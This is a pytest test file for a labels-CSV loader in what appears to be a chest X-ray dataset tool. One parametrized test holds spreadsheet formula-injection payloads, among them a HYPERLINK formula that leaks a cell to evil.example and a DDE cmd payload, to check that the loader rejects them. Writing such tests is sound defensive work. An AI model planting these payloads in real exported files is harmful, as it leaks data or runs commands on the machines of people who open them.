"""The labels CSV: key columns and aliases, normalised values, ambiguity, folder labels, formulas."""

import pandas as pd
import pytest

from xraymunit.ingestion import labels
from xraymunit.ingestion.labels import LabelsError


def write_csv(tmp_path, text, name="labels.csv"):
    path = tmp_path / name
    path.write_text(text)
    return path


def test_labels_by_sop_with_aliases_and_normalised_values(tmp_path):
    csv = write_csv(tmp_path, "SOP Instance UID,Label,Sex,Age,View,Dataset\n"
                              "1.2.3,1,female,058Y,pa,nih\n1.2.4,0,M,70,AP,nih\n1.2.5, Pneumonia ,,,,\n")
    table = labels.load_labels(csv)
    assert table.primary == "sop"
    hit, source = table.match("any/path", {"sop_uid": "1.2.3"})
    assert (hit.label, source, hit.sex, hit.age, hit.view, hit.source_dataset) == ("abnormal", "csv:sop", "F", 58.0, "PA", "nih")
    assert table.match("x", {"sop_uid": "1.2.4"})[0].label == "normal"
    assert table.match("x", {"sop_uid": "1.2.5"})[0].label == "pneumonia"
    assert table.match("x", {"sop_uid": "9.9"}) == (None, None)
    assert table.used_rows == {1, 2, 3}


def test_labels_by_path_are_normalised(tmp_path):
    csv = write_csv(tmp_path, "path,label\n./normal\\a.png,normal\nabnormal//b.png,abnormal\n")
    table = labels.load_labels(csv)
    assert table.match("normal/a.png", {})[0].label == "normal"
    assert table.match("abnormal/b.png", {})[1] == "csv:path"


def test_most_specific_key_wins_and_ambiguous_patients_are_not_used(tmp_path):
    csv = write_csv(tmp_path, "SOPInstanceUID,PatientID,label\n1.1,P1,abnormal\n1.2,P1,normal\n1.3,P2,normal\n")
    table = labels.load_labels(csv)
    assert table.match("f", {"sop_uid": "1.1", "patient_id": "P1"})[0].label == "abnormal"
    assert table.match("f", {"sop_uid": "7.7", "patient_id": "P1"}) == (None, None)  # P1 has both labels
    assert table.match("f", {"sop_uid": "7.7", "patient_id": "P2"})[1] == "csv:patient"


def test_study_and_patient_keys(tmp_path):
    table = labels.load_labels(write_csv(tmp_path, "StudyInstanceUID,label\n2.1,abnormal\n"))
    assert table.match("f", {"study_uid": "2.1"})[1] == "csv:study"
    table = labels.load_labels(write_csv(tmp_path, "patient_id,label\nP9,normal\n", "p.csv"))
    assert table.match("f", {"patient_id": "P9"})[1] == "csv:patient"


@pytest.mark.parametrize("text,message", [
    ("SOPInstanceUID,label\n1.1,normal\n1.1,abnormal\n", "rows 1, 2 give different labels"),
    ("SOPInstanceUID,diagnosis\n1.1,normal\n", "no 'label' column"),
    ("label,comment\nnormal,x\n", "no key column"),
])
def test_bad_labels_csv_errors_name_the_problem(tmp_path, text, message):
    with pytest.raises(LabelsError, match=message):
        labels.load_labels(write_csv(tmp_path, text))


def test_missing_labels_file(tmp_path):
    with pytest.raises(LabelsError, match="not found"):
        labels.load_labels(tmp_path / "nope.csv")


def test_duplicate_rows_with_the_same_label_are_fine(tmp_path):
    table = labels.load_labels(write_csv(tmp_path, "SOPInstanceUID,label\n1.1,1\n1.1,abnormal\n"))
    assert table.match("f", {"sop_uid": "1.1"})[0].label == "abnormal"


def test_folder_labels():
    assert labels.folder_label("Normal/x.png") == "normal"
    assert labels.folder_label("abnormal/sub/x.dcm") == "abnormal"
    assert labels.folder_label("other/x.png") is None and labels.folder_label("x.png") is None


@pytest.mark.parametrize("column,value", [
    ("label", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("label", "=cmd|' /c calc'!a0"),
    ("label", "  @SUM(1+1)"),
    ("source_dataset", "+1+cmd"),
    ("view", "\t=1"),
])
def test_labels_that_a_spreadsheet_would_run_are_refused(tmp_path, column, value):
    df = pd.DataFrame({"SOPInstanceUID": ["1.1", "1.2", "1.3"], "label": ["normal", "abnormal", "normal"],
                       "source_dataset": ["nih"] * 3, "view": ["PA"] * 3})
    df.loc[1, column] = value
    path = tmp_path / "labels.csv"
    df.to_csv(path, index=False)
    with pytest.raises(LabelsError) as err:
        labels.load_labels(path)
    message = str(err.value)
    assert f"row 2, column '{column}'" in message and "formula" in message
    assert value.strip() not in message and "\n" not in message


def test_numeric_labels_with_a_sign_are_not_formulas(tmp_path):
    table = labels.load_labels(write_csv(tmp_path, "SOPInstanceUID,label\n1.1,-1\n1.2,1\n1.3,+0.5\n"))
    assert table.index["sop"]["1.1"].label == "-1" and table.index["sop"]["1.3"].label == "+0.5"
